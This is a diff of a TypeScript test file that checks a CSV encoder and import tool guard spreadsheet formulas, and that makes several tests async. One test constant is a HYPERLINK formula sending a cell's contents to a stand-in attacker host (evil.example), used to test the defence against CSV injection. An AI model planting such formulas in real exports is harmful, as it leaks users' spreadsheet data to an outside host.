@@ -17,7 +17,7 @@ const LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")';
 const GUARDED = `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")"`;
 
 describe('encodeCsv', () => {
-  it('guards formulas, quotes what must be quoted, and writes numbers as numbers', () => {
+  it('guards formulas, quotes what must be quoted, and writes numbers as numbers', async () => {
     const da = { delimiter: ';' as const, lang: 'da' as const };
     expect(csvField(LINK, da)).toBe(GUARDED);
     expect(csvField('+45 12 34 56 78', da)).toBe("'+45 12 34 56 78");
@@ -35,7 +35,7 @@ describe('encodeCsv', () => {
     expect(encodeCsv([['a', 'b'], [1, '=x']], { delimiter: '\t', lang: 'en' })).toBe("\uFEFFa\tb\r\n1\t'=x\r\n");
   });
 
-  it('is the encoder of reports and of record exports', () => {
+  it('is the encoder of reports and of record exports', async () => {
     const table = { columns: [{ header: 'Navn' }, { header: 'Beløb' }], rows: [[LINK, { text: '1.250 kr.', value: 1250 }]] };
     expect(renderCsv([table], 'da')).toBe(`\uFEFFNavn;Beløb\r\n${GUARDED};1250\r\n`);
     expect(sheetToCsv({ name: 'x', headers: ['navn', 'noter'], rows: [['Alpha', LINK]] }, 'en')).toBe(`\uFEFFnavn,noter\r\nAlpha,${GUARDED}\r\n`);
@@ -47,7 +47,7 @@ describe('encodeCsv and the import', () => {
   // reading the file back gives the cell again (the formula guard's apostrophe taken off).
   const cell = fc.tuple(fc.constantFrom('', "'", '=', '+', '-', '@', "''=", ' ', '"', '\t'), fc.string({ unit: 'grapheme', maxLength: 20 }))
     .map(([start, s]) => (start + s).replace(/[\r\u0000]/g, ''));
-  it('gives every cell back, whatever the separator', () => {
+  it('gives every cell back, whatever the separator', async () => {
     fc.assert(fc.property(fc.constantFrom(',' as const, ';' as const, '\t' as const), fc.array(cell, { minLength: 2, maxLength: 5 }), (delimiter, cells) => {
       fc.pre(cells.some((c) => c !== ''));
       const text = encodeCsv([cells.map((_, i) => `h${i}`), cells], { delimiter, lang: 'da' });
@@ -57,14 +57,14 @@ describe('encodeCsv and the import', () => {
 });
 
 describe('import --skip-invalid', () => {
-  it('writes the rejected rows with the formula guard, in the file the user is told to open', () => {
+  it('writes the rejected rows with the formula guard, in the file the user is told to open', async () => {
     const dir = makeFolder({ ...baseFiles() });
     // The sheet sits outside the data folder: civsam refuses to write the rejected rows inside it.
     const sheets = mkdtempSync(join(tmpdir(), 'civsam-sheets-'));
     const input = join(sheets, 'ind.csv');
     const csv = ['navn;type;områder;status;kommuner;noter', `Beta Forening;ukendt;psykiatri;aktiv;Aarhus;"${LINK.replace(/"/g, '""')}"`, 'Gamma Forening;other;psykiatri;aktiv;Aarhus;ok', ''].join('\r\n');
     writeFileSync(input, csv);
-    const r = civsam(['--lang', 'da', 'import', 'organisations', input, '--skip-invalid', '--no-commit', '--data', dir]);
+    const r = await civsam(['--lang', 'da', 'import', 'organisations', input, '--skip-invalid', '--no-commit', '--data', dir]);
     expect(r.code).toBe(1);
     const rejected = readFileSync(join(sheets, 'ind.rejected.csv'), 'utf8');
     const lines = rejected.split('\r\n');
